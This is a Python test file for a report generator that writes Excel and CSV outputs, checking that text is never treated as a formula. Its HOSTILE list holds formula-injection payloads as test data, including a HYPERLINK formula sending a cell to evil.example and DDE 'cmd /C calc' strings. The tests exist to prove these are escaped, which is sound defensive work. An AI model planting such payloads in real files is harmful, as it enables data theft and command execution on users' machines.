"""The workbook an analyst opens: numbers as numbers in their formats, text as text (never a
formula, whatever a note or source begins with), every sheet an Excel table under a frozen
header row; and the CSV files escape text that a spreadsheet would run (OWASP)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from healthcheck.inputs.plan import Plan
from healthcheck.report import render_outputs
from healthcheck.report.workbook import VERDICT_ILLUSTRATIVE, table_name, text_width
from healthcheck.results.model import Column, Table
from healthcheck.results.store import FileStore
from healthcheck.spreadsheet import csv_safe, csv_text, csv_unescape, looks_like_formula

#: a percentage with one decimal, below zero with the minus sign U+2212
PCT = '0.0%;"−"0.0%;0.0%'
TEMPLATES = Path(__file__).resolve().parents[2] / "templates"

#: texts a spreadsheet would run as formulas (OWASP's triggers), and a Chinese one
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击 click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1 全角等号 full-width",  # not a trigger: stays as it is
]


def _book(out: dict[str, bytes]) -> Any:
    return load_workbook(io.BytesIO(out["report.xlsx"]))


def _column(ws: Worksheet, head: str) -> list[Any]:
    heads = [c.value for c in ws[1]]
    k = heads.index(head) + 1
    return [ws.cell(r, k) for r in range(2, ws.max_row + 1)]


def _hostile_observations(observations: pd.DataFrame) -> pd.DataFrame:
    """T01's six values and T05's 2021 value (published ones: an illustrative value's source
    is the report's own words) with hostile sources and notes; T01's 2025 value negative."""
    obs = observations.copy()
    city = obs["area"] == ""
    rows = [*obs.index[city & (obs["indicator"] == "T01")],
            *obs.index[city & (obs["indicator"] == "T05") & (obs["year"] == 2021)]]  # fmt: skip
    for k, text in zip(rows, HOSTILE, strict=True):
        obs.loc[k, "source"] = text
        obs.loc[k, "note"] = text
    obs.loc[city & (obs["indicator"] == "T01") & (obs["year"] == 2025), "value"] = -3.5
    return obs


@pytest.fixture
def hostile(
    small_plan: Plan, observations: pd.DataFrame, store: FileStore,
    rewrite: Callable[..., None],
) -> dict[str, bytes]:  # fmt: skip
    res = store.read("transport")
    frame = pd.DataFrame({"id": ["T01", "T05", "T06"], "note": HOSTILE[:3],
                          "share": [0.5, -0.25, 1.0], "n": [3, -4, 12],
                          "schedule_gap": [-0.064, 0.0, 0.125]})  # fmt: skip
    table = Table(id="notes", path=store.save_table("transport", "notes", frame),
                  caption_zh="备注", caption_en="Notes",
                  columns=[Column(name="id", label_zh="编号", label_en="ID"),
                           Column(name="note"), Column(name="share", type="fraction"),
                           Column(name="n", type="integer"),
                           Column(name="schedule_gap", type="fraction")])  # fmt: skip
    districts = [d.model_copy(update={"note": HOSTILE[k]}) for k, d in enumerate(res.districts)]
    rewrite(tables=[*res.tables, table], districts=districts)
    obs = _hostile_observations(observations)
    return render_outputs(small_plan, obs, store, template_dir=TEMPLATES,
                          formats=("xlsx", "csv"))  # fmt: skip


def test_hostile_text_is_text_in_the_workbook(hostile: dict[str, bytes]) -> None:
    book = _book(hostile)
    formulas = [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]  # fmt: skip
    assert formulas == []
    data = book["data"]
    # a carriage return reads back as a line feed (XML): the workbook writes it so
    texts = {t.replace("\r", "\n") for t in HOSTILE}
    sources = [c for c in _column(data, "来源 Source") if c.value in texts]
    notes = [c for c in _column(data, "备注 Note") if c.value in texts]
    assert {c.value for c in sources} == texts, "sources"
    assert {c.value for c in notes} == texts, "notes"
    for c in sources + notes:
        assert c.data_type == "s"
        # Excel's quote prefix: editing the cell keeps it text
        assert c.quotePrefix == looks_like_formula(c.value)
    values = [c for c in _column(data, "数值 Value") if c.value == -3.5]
    # T01's values are whole numbers but for this one: one decimal for all
    assert [(c.data_type, c.number_format) for c in values] == [("n", '#,##0.0;"−"#,##0.0;#,##0.0')]
    assert [c.value for c in _column(book["districts"], "备注 Note")] == HOSTILE[:2]
    table = book["transport-notes"]
    assert [c.value for c in table[1]] == ["编号 ID", "note", "share (%)", "n", "schedule_gap (pp)"]
    # a gap between fractions in percentage points, as the PDF prints it
    assert [c.value for c in _column(table, "schedule_gap (pp)")] == [-6.4, 0, 12.5]
    assert [(c.value, c.data_type) for c in _column(table, "note")] == [
        (t, "s") for t in HOSTILE[:3]
    ]
    share = _column(table, "share (%)")
    assert [(c.value, c.data_type, c.number_format) for c in share] == [
        (0.5, "n", PCT), (-0.25, "n", PCT), (1.0, "n", PCT)]  # fmt: skip
    assert [(c.value, c.data_type) for c in _column(table, "n")] == [(3, "n"), (-4, "n"), (12, "n")]
    # the About sheet lists the sources as text too
    about = [c for c in _column(book["说明 About"], "项目 Item") if c.value in HOSTILE]
    assert about and all(c.data_type == "s" for c in about)


def test_hostile_text_is_escaped_in_the_csv_files(
    hostile: dict[str, bytes], store: FileStore
) -> None:
    # a notebook's table, in the results store: escaped on disk, read back as written
    path = store.folder("transport") / "tables" / "notes.csv"
    on_disk = list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    assert [r["note"] for r in on_disk] == ["'" + t for t in HOSTILE[:3]]
    assert [r["n"] for r in on_disk] == ["3", "-4", "12"]
    rows = list(csv.DictReader(io.StringIO(hostile["tables/observations.csv"].decode("utf-8-sig"),
                                           newline="")))  # fmt: skip
    hit = [
        r for r in rows if r["indicator"] == "T01" or (r["indicator"], r["year"]) == ("T05", "2021")
    ]
    escaped = ["'" + t if looks_like_formula(t) else t for t in HOSTILE]
    assert [r["source"] for r in hit] == [r["note"] for r in hit] == escaped
    assert hit[5]["value"] == "-3.5"  # a number, not escaped
    districts = list(csv.DictReader(io.StringIO(
        hostile["tables/districts.csv"].decode("utf-8-sig"), newline="")))  # fmt: skip
    assert [r["note"] for r in districts] == ["'" + t for t in HOSTILE[:2]]
    assert [r["gap"] for r in districts] == ["-5", "0"]  # negative numbers stay numbers
    for path, body in hostile.items():
        if path.endswith(".csv"):
            for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
                assert not any(looks_like_formula(cell) for cell in row), (path, row)


@pytest.mark.e2e
def test_libreoffice_runs_nothing_in_the_workbook_and_the_csv_files(
    hostile: dict[str, bytes], tmp_path: Path
) -> None:
    """What an analyst's spreadsheet makes of the files, not only what openpyxl reads: every
    output opened by LibreOffice and saved again holds no formula, and the texts are there."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
        )
    src = tmp_path / "in"
    src.mkdir()
    names = {p: p.replace("/", "-") for p in hostile if p.endswith((".csv", ".xlsx"))}
    for path, name in names.items():
        (src / name).write_bytes(hostile[path])
    res = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"),
         *[str(src / n) for n in names.values()]],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    texts: set[str] = set()
    for name in names.values():
        book = load_workbook(tmp_path / "out" / (Path(name).stem + ".xlsx"))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        texts |= {str(c.value).lstrip("'") for c in cells if c.data_type == "s"}
    assert {t.replace("\r", "\n") for t in HOSTILE} <= {t.replace("\r", "\n") for t in texts}


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("+1", "+1"), ("-3.5", "-3.5"), ("1e-3", "1e-3"), ("-", "'-"),
     ("- a list item", "'- a list item"), ("@home", "'@home"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("'=1", "''=1"), ("''@x", "'''@x"), ("'quoted'", "'quoted'"),
     ("统计公报", "统计公报"), ("", "")],
)  # fmt: skip
def test_csv_text(text: str, written: str) -> None:
    assert csv_text(text) == written
    assert csv_unescape(written) == text


def test_csv_safe_leaves_numbers_alone() -> None:
    frame = pd.DataFrame({"=x": ["=A1", "ok"], "v": [-1.5, 2.0], "n": [-1, 2],
                          "b": [True, False], "m": [None, "-x"]})  # fmt: skip
    out = csv_safe(frame)
    assert list(out.columns) == ["'=x", "v", "n", "b", "m"]
    assert list(out["'=x"]) == ["'=A1", "ok"] and list(out["m"]) == [None, "'-x"]
    pd.testing.assert_frame_equal(out[["v", "n", "b"]], frame[["v", "n", "b"]])
    assert list(frame["=x"]) == ["=A1", "ok"]  # the input is not changed


def test_every_sheet_is_a_table_under_a_frozen_header(
    small_plan: Plan, observations: pd.DataFrame, store: FileStore
) -> None:
    out = render_outputs(small_plan, observations, store, template_dir=TEMPLATES,
                         formats=("xlsx",))  # fmt: skip
    book = _book(out)
    names = []
    for ws in book.worksheets:
        assert ws.freeze_panes in ("A2", "B2"), ws.title
        ((name, ref),) = ws.tables.items()
        names.append(name.lower())
        assert ref.startswith("A1:") and ws.tables[name].autoFilter is not None
        heads = [c.value for c in ws[1]]
        assert len({h.lower() for h in heads}) == len(heads)
        assert all(ws.column_dimensions[c.column_letter].width >= 6 for c in ws[1])
    assert len(set(names)) == len(names)
    assert book.sheetnames[0] == "说明 About"


def test_numbers_are_numbers_with_formats(
    small_plan: Plan, observations: pd.DataFrame, store: FileStore
) -> None:
    out = render_outputs(small_plan, observations, store, template_dir=TEMPLATES,
                         formats=("xlsx",))  # fmt: skip
    book = _book(out)
    card = book["scorecard"]
    ids = [c.value for c in _column(card, "编号 ID")]
    value = dict(zip(ids, _column(card, "现值 Value"), strict=True))
    # T01 in 万人次/年, whole numbers; T06 a percentage: 90 % stored as 0.9, shown with the
    # report's decimals (text.numbers.indicator_decimals: at least one for a percentage)
    assert (value["T01"].value, value["T01"].number_format) == (16500, '#,##0;"−"#,##0;#,##0')
    assert (value["T06"].value, value["T06"].number_format) == (0.9, '0.0%;"−"0.0%;0.0%')
    comp = dict(zip(ids, _column(card, "完成率 Completion (%)"), strict=True))
    assert (comp["T01"].value, comp["T01"].number_format) == (0.83, PCT)
    gap = dict(zip(ids, _column(card, "进度差（百分点）Schedule gap (pp)"), strict=True))
    assert gap["T01"].value == -17 and gap["T01"].data_type == "n"
    assert gap["T01"].number_format.startswith("+0.0;")
    units = [
        (c.value, d.value)
        for c, d in zip(
            _column(card, "单位 Unit (zh)"), _column(card, "单位 Unit (en)"), strict=True
        )
    ]
    assert units == [("万人次/年", "10k trips per year"), ("公里", "km"), ("%", "%")]
    for ws in book.worksheets:  # no "93.4% / 93.4%" text: a text cell is never a number
        # codes (district codes) and lists of years are text
        years = [c.column for c in ws[1] if c.value == VERDICT_ILLUSTRATIVE or "code" in c.value]
        for row in ws.iter_rows(min_row=2):
            for c in row:
                if isinstance(c.value, str) and c.column not in years:
                    assert not _is_number_text(c.value), (ws.title, c.coordinate, c.value)
    dist = book["districts"]
    assert [c.value for c in _column(dist, "区 District (zh)")] == ["江岸区", "江汉区"]
    assert [c.value for c in _column(dist, "区代码 District code")] == ["420102", "420103"]
    assert [c.value for c in _column(dist, "排名（1为最好）Rank (1 = best)")] == [2, 1]


def _is_number_text(text: str) -> bool:
    s = text.replace(",", "").replace("%", "").replace("/", "").split()
    try:
        return bool(s) and all(float(x) == float(x) for x in s)
    except ValueError:
        return False


def test_about_sheet_explains_sheets_statuses_and_sources(
    small_plan: Plan, observations: pd.DataFrame, store: FileStore
) -> None:
    out = render_outputs(small_plan, observations, store, template_dir=TEMPLATES,
                         formats=("xlsx",))  # fmt: skip
    book = _book(out)
    about = book["说明 About"]
    rows = [[c.value for c in r] for r in about.iter_rows(min_row=2)]
    sheets = [r[1] for r in rows if r[0] == "工作表 Sheet"]
    assert sheets == book.sheetnames[1:]
    statuses = [r[1] for r in rows if r[0] == "状态 Status"]
    assert statuses == ["official", "reported", "estimate", "illustrative"]
    sources = {r[1]: r[3] for r in rows if r[0] == "来源 Source"}
    # illustrative values' source reads as the PDF's, and each source counts its values
    assert (
        sources["示意数据，无公开数值 / illustrative, no published figure"]
        == "8 values (illustrative)"
    )
    assert sources["统计公报 bulletin 2025"] == "2 values (official, estimate)"
    assert all(r[2] and r[3] for r in rows)


def test_table_names_and_widths() -> None:
    taken: set[str] = set()
    assert table_name("scorecard", taken) == "tbl_scorecard"
    assert table_name("Scorecard", taken) == "tbl_Scorecard_2"
    assert table_name("说明 About", taken) == "tbl_About"
    assert table_name("A1", taken) == "tbl_A1"
    assert table_name("区", taken) == "tbl_sheet"
    assert text_width("武汉 Wuhan") == 10 and text_width("ab\n武汉市") == 6
